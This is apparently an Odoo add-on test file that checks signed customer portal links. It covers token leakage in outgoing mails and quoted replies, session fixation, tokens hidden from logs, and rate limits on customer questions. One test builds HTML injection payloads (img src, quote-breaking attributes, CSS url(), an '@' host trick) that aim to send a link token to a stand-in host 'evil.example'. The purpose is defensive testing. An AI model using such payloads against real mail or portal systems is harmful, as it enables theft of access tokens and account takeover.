# Part of Service Experience. See LICENSE file for full copyright and licensing details.

import logging
import time
from datetime import datetime, timedelta
from urllib.parse import quote

from lxml import html
from markupsafe import Markup

from odoo import fields
from odoo.tests import TransactionCase, tagged

from odoo.addons.service_experience.models.project.service_conversation import (
    ASKED_LIMIT,
    ASKED_WITHIN,
)
from odoo.addons.service_experience_portal.models.mail_mail import MAX_LINKS

from .delay_page_common import READ, DelayPageCase
from .link_common import SIGNED, LinkCase

EVIL = "https://evil.example/x.png?u="
QUOTING = """From: Ada <ada@nordlicht.example>
To: anybody@example.com
Subject: Re: Your heat pump
Message-Id: <quoting@nordlicht.example>
In-Reply-To: {parent}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>Thank you.</p><blockquote><a href="{link}">Open</a> {link}
<a href="https://filter.example/?url={quoted}&amp;data=1">Open</a></blockquote>
"""


@tagged("post_install", "-at_install")
class TestLinkInMails(LinkCase):
    def setUp(self):
        super().setUp()
        self.page = self.project.get_base_url() + self.url

    def _mail(self, body):
        """Send this to the customer and return the mail as it leaves."""
        with self.mock_mail_gateway():
            self.project.message_notify(
                body=Markup(body),  # noqa: S704  (what an attacker wrote)
                partner_ids=self.person.ids,
                subject="News",
            )
        [mail] = self._mails
        return mail

    def test_the_key_is_no_part_of_another_address(self):
        """Whoever writes could put the address of a page into that of a picture of theirs."""
        for words in (
            f'<img src="{EVIL}{self.page}">',
            f'<img src="{EVIL} {self.page}">',
            f"""<img src="{EVIL}' href='{self.page}'">""",
            f"""<img src='{EVIL}" <a href="{self.page}">'>""",
            f'<a href="{EVIL}{self.page}">See</a>',
            f'<a href="{self.page}@evil.example">See</a>',
            f'<p style="background-image: url({EVIL}{self.page})">See</p>',
        ):
            with self.subTest(words):
                mail = self._mail(f"<p>Hello</p>{words}")
                for part in ("body", "body_alternative"):
                    # The button of the mail leads to the page, too, and nothing else does.
                    tree = html.fromstring(mail["body"])
                    links = tree.xpath("//a[contains(@href, '/s/')]/@href")
                    for token in SIGNED.findall(mail[part]):
                        self.assertTrue(any(link.endswith(f"/s/{token}") for link in links))
                    self.assertFalse([link for link in links if "evil" in link])
                    self.assertNotRegex(mail[part], r"evil\.example[^<]*/s/[\w-]{43}")

    def test_a_link_keeps_its_other_attributes(self):
        mail = self._mail(
            f'<p>1 &lt; 2\n</p>\n<a title="A &quot;b&quot;" href="{self.page}/messages">'
            "A<b>b</b></a>"
        )
        [link] = html.fromstring(mail["body"]).xpath("//a[@title]")
        self.assertEqual((link.get("title"), link.text_content()), ('A "b"', "Ab"))
        [token] = SIGNED.findall(link.get("href"))
        self.assertEqual(self.links._find(token).path, f"{self.url}/messages")
        self.assertIn(token, mail["body_alternative"])
        self.assertIn("1 &lt; 2", mail["body"])

    def test_numbers_of_no_service(self):
        """A mail that names such a page is sent as all others are."""
        base = self.project.get_base_url()
        for number in ("9" * 5000, "9" * 10, "0", "٣"):
            with self.subTest(number[:20]):
                mail = self._mail(f'<a href="{base}/my/service/{number}">See</a>')
                self.assertIn("See", mail["body"])
                self.assertNotIn(">See</a", mail["body"].split("/s/")[-1][:60])

    def test_many_links(self):
        pages = "".join(f'<a href="{self.page}/step/{number}">See</a>' for number in range(90))
        before = self.links.search_count([])
        mail = self._mail(pages)
        self.assertEqual(self.links.search_count([]) - before, MAX_LINKS)
        self.assertIn(f"{self.page}/step/89", mail["body"])

    def test_answers_by_mail_hold_no_link(self):
        """What is quoted is read by more people than the one to whom it was written."""
        parent = self._say_hello()
        _link, token = self._make_link()
        link = f"{self.project.get_base_url()}/s/{token}"
        mail = QUOTING.format(
            parent=parent.message_id, link=link, quoted=quote(link, safe="").lower()
        )
        mail = mail.replace(quote(link, safe="").lower(), quote(link, safe=""))
        with self.mock_mail_gateway():
            self.env["mail.thread"].message_process("project.project", mail)
        answer = self.project.message_ids[0]
        self.assertIn("<p>Thank you.</p>", answer.body)
        self.assertNotIn(token, answer.body)
        self.assertEqual(answer.body.count("services"), 3)

    def _say_hello(self):
        with self.mock_mail_gateway():
            return self.project.message_post(
                body="Hello",
                partner_ids=self.person.ids,
                message_type="comment",
                subtype_xmlid="mail.mt_comment",
            )


@tagged("post_install", "-at_install")
class TestLinkSessions(LinkCase):
    def test_whoever_signs_in_afterwards_is_somebody_else(self):
        _link, token = self._make_link("act")
        self._open_link(token)
        self.assertEqual(self._confirm(self._get_code()).status_code, 303)
        self.assertEqual(self.url_open(self.url).status_code, 200)
        other = "page_stranger"
        response = self._post("/web/login", login=other, password=other)
        self.assertEqual(response.status_code, 303)
        for page in ("", "/version", "/messages"):
            self.assertEqual(self.url_open(self.url + page).status_code, 404)
        # Unless they have the link themselves; then they read.
        response = self.url_open(f"/s/{token}")
        self.assertIn("Your heat pump", self._text(response))
        self.assertIn("confirm", self.url_open(f"{self.url}/confirm").url)

    def test_one_new_link_an_hour(self):
        link, token = self._make_link()
        self._forget_session()
        self.assertEqual(self._renew(link, token), 0, "it works")
        link.expires_at = fields.Datetime.now() - timedelta(seconds=1)
        self.assertEqual([self._renew(link, token) for _time in range(3)], [1, 0, 0])
        others = self.links.search([("project_id", "=", self.project.id)]) - link
        for end in ("expires_at", "create_date"):
            long_ago = fields.Datetime.now() - timedelta(hours=2)
            self.env.cr.execute(
                f"UPDATE service_portal_link SET {end} = %s WHERE id IN %s",  # noqa: S608
                [long_ago, tuple(others.ids)],
            )
            self.env.invalidate_all()
            self.assertEqual(self._renew(link, token), 1)
            others = self.links.search([("project_id", "=", self.project.id)]) - link

    def _renew(self, link, token):
        """Ask for a new link and return how many mails are sent."""
        self.assertEqual(self._post("/s/renew", token=token).status_code, 200)
        with self.mock_mail_gateway():
            link._renew()
            self.env["mail.mail"].search([("state", "=", "outgoing")]).send()
        return len(self._mails)

    def test_confirming_changes_the_key_of_the_session(self):
        """Whoever put a session of theirs into the browser of the customer does not answer."""
        step = self._ask("answer")
        _link, token = self._make_link("act")
        self._open_link(token)
        planted = self.opener.cookies["session_id"]
        self._confirm(self._get_code())
        own = self.opener.cookies["session_id"]
        self.assertNotEqual(own, planted)
        for key, status in ((planted, 403), (own, 303)):
            self.opener.cookies.clear()
            self.opener.cookies.set("session_id", key)
            response = self._post(self._step_url(step), response="Two floors.")
            self.assertEqual(response.status_code, status)

    def test_opening_changes_the_key_of_the_session(self):
        """Whoever put a session of theirs into the browser of the customer does not read either."""
        _link, token = self._make_link()
        self._forget_session()
        self.url_open("/web/login")
        planted = self.opener.cookies["session_id"]
        csrf = self._csrf()
        self.url_open(f"/s/{token}")
        own = self.opener.cookies["session_id"]
        self.assertNotEqual(own, planted)
        for key, status in ((planted, 404), (own, 200)):
            self.opener.cookies.clear()
            self.opener.cookies.set("session_id", key)
            self.assertEqual(self.url_open(f"{self.url}/version").status_code, status)
        # What is open in another tab can still be sent.
        response = self.url_open("/s/renew", data={"csrf_token": csrf, "token": "x"})
        self.assertEqual(response.status_code, 200)

    def test_opening_while_signed_in(self):
        """The key changes, and they stay signed in."""
        _link, token = self._make_link(person=self.person)
        self.authenticate("page_stranger", "page_stranger")
        self.assertIn("Your heat pump", self._text(self.url_open(f"/s/{token}")))
        self.assertIn("Your services", self._text(self.url_open("/my/services")))

    def test_whoever_is_archived_reads_no_more(self):
        """A person who left the customer keeps their mails, and the links in them."""
        link, token = self._make_link("act")
        self._open_link(token)
        self.assertEqual(self.url_open(f"{self.url}/version").status_code, 200)
        self.person.user_ids.active = False
        self.person.active = False
        self.assertFalse(link.is_working)
        for page in (f"{self.url}/version", f"{self.url}/sections", self.url, f"/s/{token}"):
            self.assertEqual(self.url_open(page).status_code, 404)
        link.expires_at = fields.Datetime.now() - timedelta(seconds=1)
        self.assertEqual(self._renew(link, token), 0)

    def test_the_log_keeps_no_key(self):
        """Whoever reads the log of the server could open the page."""
        _link, token = self._make_link()
        self._forget_session()
        for path in (f"/s/{token}", f"/s/{token}?utm=100%25", f"/en/s/{token}"):
            with self.assertLogs("werkzeug", logging.INFO) as logs:
                self.url_open(path)
            self.assertNotIn(token, "".join(logs.output))
            self.assertIn("/s/*** HTTP" if "?" not in path else "/s/***?utm=100%", logs.output[0])

    def test_pages_that_cannot_be(self):
        _link, token = self._make_link("act")
        self._open_link(token)
        for page in ("/my/service/" + "9" * 5000, "/my/service/\x00", "x" * 20000):
            response = self._post(f"{self.url}/confirm", page=page, code="1")
            self.assertEqual(response.status_code, 422)
        response = self.url_open(
            f"{self.url}/confirm",
            data={"csrf_token": self._csrf(), "code": "1"},
            files=[("page", ("x.txt", b"x"))],
        )
        self.assertEqual(response.status_code, 422)

    def test_the_page_to_come_back_to_in_another_language(self):
        lang = self.env["res.lang"]._activate_lang("fr_FR")
        step = self._ask()
        _link, token = self._make_link("act")
        self._open_link(token)
        response = self.url_open(f"/{lang.url_code}{self.url}/confirm?page={self._step_url(step)}")
        root = html.fromstring(response.content)
        self.assertEqual(set(root.xpath("//input[@name='page']/@value")), {self._step_url(step)})
        self.assertIn(f"/{lang.url_code}{self.url}/code", root.xpath("//form/@action"))


@tagged("post_install", "-at_install")
class TestKeysInMessages(LinkCase):
    def _read(self, body):
        self.project.message_post(
            body=Markup(body),  # noqa: S704  (what an attacker wrote)
            author_id=self.person.id,
            message_type="comment",
            subtype_xmlid="mail.mt_comment",
        )
        [message, *_earlier] = self.project._service_conversation(self.person)["messages"]
        return message["body"]

    def test_addresses_of_mail_filters(self):
        base = self.project.get_base_url()
        for path in ("/s/" + "k" * 43, "/mail/view?access_token=kkk"):
            url = f"https://filter.example/?url={quote(base + path, safe='')}&amp;data=1"
            body = self._read(f'<p>Yes. <a href="{url}">Open</a></p>')
            self.assertIn("Open", body)
            self.assertNotIn("kkk", body)
        self.assertIn("href", self._read('<a href="https://docs.example/a?b=c">Open</a>'))

    def test_many_addresses_in_one_word(self):
        """What a customer sends does not keep the server busy."""
        base = self.project.get_base_url()
        started = time.monotonic()
        body = self._read(f"<p>{(base + '/x') * 10_000}</p><p>{base}/s/{'k' * 43}</p>")
        self.assertLess(time.monotonic() - started, 5)
        self.assertNotIn("kkk", body)


@tagged("post_install", "-at_install")
class TestManyQuestions(LinkCase):
    def _ask_about(self, text):
        return self._post(f"{self.url}/question", text=text)

    def test_questions_without_end(self):
        """Each is a task for a colleague: a program of a customer does not give them thousands."""
        self.authenticate("page_customer", "page_customer")
        self.project.accountable_user_id = self.employee
        answers = [self._ask_about(f"Question {number}").status_code for number in range(22)]
        self.assertEqual(answers, [303] * ASKED_LIMIT + [422, 422])
        self.assertEqual(len(self.project.activity_ids), ASKED_LIMIT)
        response = self._ask_about("Is it still there?")
        self.assertIn("Please wait a few minutes", response.text)
        self.assertIn("Is it still there?", response.text)
        others = self.project.message_ids.filtered(lambda one: one.author_id == self.person)
        others[0].date -= ASKED_WITHIN
        self.assertEqual(self._ask_about("Is it still there?").status_code, 303)


@tagged("post_install", "-at_install")
class TestManyQuestionsAboutADate(DelayPageCase):
    def test_questions_without_end(self):
        """Each is a line of the history, too, which nobody takes away again."""
        delay = self._tell()

        def ask(moment=READ):
            return self._post_form(
                self._delay_url(delay), moment=moment, answer="question", text="Why?"
            )

        answers = [ask().status_code for _time in range(ASKED_LIMIT + 2)]
        self.assertEqual(answers, [303] * ASKED_LIMIT + [422, 422])
        self.assertIn("Please wait a few minutes, then try again.", ask().text)
        self.assertEqual(self._answer(delay, "accepted").status_code, 303)

    def test_later(self):
        delay = self._tell()
        for _time in range(ASKED_LIMIT):
            self._answer(delay, "question", text="Why?")
        moment = str(datetime.fromisoformat(READ) + ASKED_WITHIN)
        response = self._post_form(
            self._delay_url(delay), moment=moment, answer="question", text="Why?"
        )
        self.assertEqual(response.status_code, 303)


@tagged("post_install", "-at_install")
class TestOneCode(TransactionCase):
    def test_one_code_at_a_time(self):
        """Who asks twice at the same moment gets one mail, and never waits for the other."""
        with self.registry.cursor() as cr:
            env = self.env(cr=cr)
            customer = env["res.partner"].create({"name": "Twice"})
            project = env["project.project"].create({"name": "Twice", "partner_id": customer.id})
            links = env["service.portal.link"]
            link_id = links._find(links._make(project, customer, "/my", "act")).id
        self.addCleanup(self._remove, project.id, customer.id)
        with self.registry.cursor() as ours, self.registry.cursor() as theirs:
            first, second = (
                self.env(cr=cr)["service.portal.link"].browse(link_id) for cr in (ours, theirs)
            )
            self.assertTrue(first._can_make_code())
            self.assertFalse(second._can_make_code())

    def _remove(self, *ids):
        with self.registry.cursor() as cr:
            for model, record_id in zip(("project.project", "res.partner"), ids, strict=True):
                self.env(cr=cr)[model].browse(record_id).unlink()
